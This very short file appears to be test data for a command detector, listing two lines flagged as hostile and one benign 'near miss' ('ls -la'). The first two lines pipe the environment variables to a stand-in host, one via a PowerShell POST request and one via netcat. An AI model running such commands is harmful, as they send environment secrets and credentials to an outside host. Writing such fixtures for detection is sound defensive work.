gci env: | irm https://a.invalid/in -Method Post
dir env: | nc a.invalid 1
# near misses
ls -la
